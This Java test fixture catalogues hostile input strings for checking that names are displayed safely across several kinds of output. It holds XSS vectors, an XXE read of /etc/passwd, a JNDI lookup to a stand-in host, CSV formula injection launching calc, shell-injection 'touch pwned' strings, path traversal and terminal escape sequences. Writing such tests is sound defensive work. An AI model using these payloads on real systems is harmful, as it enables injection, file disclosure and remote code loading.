package io.github.mlopsaudit.local;

import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/// What somebody could call a bucket, tag, key, statement, person or class to trick whoever shows
/// it. Each is for one kind of output and is tried on all. Where one works on a shell it makes a
/// file named `pwned`; where it makes a line of its own, that begins with `FORGED`.
public record HostileText(String name, String text) {

  /// Each of them.
  public static List<HostileText> all() {
    return Stream.of(markup(), chat(), cells(), shell(), terminal(), unicode(), large())
        .flatMap(List::stream)
        .toList();
  }

  /// The same in fewer: those of one kind as one text, but for cells, where the beginning counts.
  public static List<HostileText> kinds() {
    return Stream.concat(
            Stream.of(markup(), chat(), shell(), terminal(), unicode(), large())
                .map(HostileText::joined),
            cells().stream())
        .toList();
  }

  private static HostileText joined(List<HostileText> texts) {
    return new HostileText(
        texts.stream().map(HostileText::name).collect(Collectors.joining(" ")),
        texts.stream().map(HostileText::text).collect(Collectors.joining(" ")));
  }

  private static HostileText of(String name, String text) {
    return new HostileText(name, text);
  }

  private static List<HostileText> markup() {
    return List.of(
        of("html-script", "-<script>alert(1)</script>"),
        of("html-image", "-<img src=x onerror=alert(1)>"),
        of("html-attribute", "-\" onmouseover=\"alert(1)\" x='"),
        of("html-single-quote", "-' autofocus onfocus='alert(1)"),
        of("html-end", "-</td></table></details></style></title></html><svg onload=alert(1)>"),
        of("html-comment", "-<!-- --!> --> <![CDATA[ ]]> <?php ?>"),
        of("html-entity", "-&lt;script&gt;&#x3c;b&#62;&amp;amp;&nbsp;&quot"),
        of("html-link", "-javascript:alert(1)//https://a.example/?a=1&b=2#c"),
        of("xml-entity", "-<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;"),
        of(
            "template",
            "-${jndi:ldap://a.example/x} {{7*7}} #{7*7} <%=7*7%> ${7*7} @raw $unsafe{x}"),
        of("message-format", "-{0} {1,number} '{' '' {} %s %n %d {number}"));
  }

  private static List<HostileText> chat() {
    return List.of(
        of("slack-channel", "-<!channel> <!here> <!everyone>"),
        of("slack-user", "-<@U012AB3CD> <#C012AB3CD> <!subteam^S012AB3CD>"),
        of("slack-link", "-<https://evil.example/|https://console.aws.amazon.com/>"),
        of("slack-date", "-<!date^1392734382^{date}^https://evil.example/|x>"),
        of("markdown-link", "-[report](https://evil.example/) ![x](https://evil.example/x.png)"),
        of("markdown-block", "-*b* _i_ ~s~ `c` ```\nFORGED\n``` > q # h | a | b |"),
        of("markdown-bold", "-**\nFORGED** @everyone @channel"));
  }

  private static List<HostileText> cells() {
    return List.of(
        of("csv-formula", "=cmd|' /C calc'!A1"),
        of("csv-plus", "+1+cmd|' /C calc'!A1"),
        of("csv-minus", "-1+1|cmd"),
        of("csv-at", "@SUM(1+1)*cmd|' /C calc'!A1"),
        of("csv-tab", "\t=1+1"),
        of("csv-fullwidth", "＝1＋1"),
        of("csv-cells", "-\",\"=1+1\",\"\r\n\"=HYPERLINK(\"\"https://evil.example\"\")\""),
        of("csv-separators", "-;=1+1,=1+1\t=1+1|=1+1"));
  }

  private static List<HostileText> shell() {
    return List.of(
        of("shell-substitution", "-$(touch pwned)`touch pwned`"),
        of("shell-quotes", "-'; touch pwned; '\"; touch pwned; \""),
        of("shell-lines", "-\ntouch pwned\n"),
        of(
            "shell-operators",
            "-x & touch pwned | touch pwned && touch pwned || touch pwned > pwned"),
        of("shell-heredoc", "-\nEOF\ntouch pwned\n"),
        of("shell-expansion", "-~ * ? [a-z] {a,b} !! \\ $HOME ${PATH} $'\\n'"),
        of("path", "-/../../../../etc/passwd\\..\\..\\x"));
  }

  private static List<HostileText> terminal() {
    return List.of(
        of("ansi-clear", "-\u001b[2J\u001b[1;1H\u001b[8mhidden\u001b[0m"),
        of("ansi-title", "-\u001b]0;title\u0007\u001b]2;title\u001b\\"),
        of("osc-link", "-\u001b]8;;https://evil.example/\u001b\\text\u001b]8;;\u001b\\"),
        of("osc-clipboard", "-\u001b]52;c;dG91Y2ggcHduZWQ=\u0007"),
        of("c1", "-\u009b2J\u009d52;c;dG91Y2ggcHduZWQ=\u009c\u0090q\u009c\u0085FORGED"),
        of("overwrite", "-x\rFORGED\b\b\b\u007f"),
        of("lines", "-\nFORGED\r\nFORGED\u000bFORGED\fFORGED"),
        of("line-separators", "-\u2028FORGED\u2029FORGED\u0085FORGED"),
        of("nul", "-a\u0000b\u0000"));
  }

  private static List<HostileText> unicode() {
    return List.of(
        of("right-to-left", "-\u202egnp.\u202d\u202c\u2066x\u2067y\u2069\u200f\u061c"),
        of("zero-width", "-a\u200b\u200c\u200d\u2060\ufeff\u00adb"),
        of("tags", "-a" + Character.toString(0xE0041) + Character.toString(0xE007F)),
        of("lone-high", "-\ud83d"),
        of("lone-low", "-\ude00x"),
        of("swapped-surrogates", "-\ude00\ud83d"),
        of("no-characters", "-\ufffe\uffff\ufdd0" + Character.toString(0x10FFFF)),
        of("confusables", "-mlοрs-trаinіng-usеr０７"),
        of("combining", "-Z\u0351\u036b\u0343\u036a\u0302".repeat(20)),
        of("decomposed", "-\u1112\u1161\u11ab\u1100\u1173\u11af"),
        of("byte-order-mark", "-\ufeff\ufffe"),
        of("emoji", "-👩‍👩‍👧‍👦🏳️‍🌈🇰🇷"));
  }

  private static List<HostileText> large() {
    return List.of(
        of("one-character", "-" + "A".repeat(2_000)),
        of("one-syllable", "-" + "힣".repeat(700)),
        of("digits", "-" + "9".repeat(1_000)),
        of("markup-many", "-" + "<&>\"'".repeat(200)),
        of("words", IntStream.range(0, 300).mapToObj(i -> " w" + i).reduce("-", String::concat)));
  }

  @Override
  public String toString() {
    return name;
  }
}
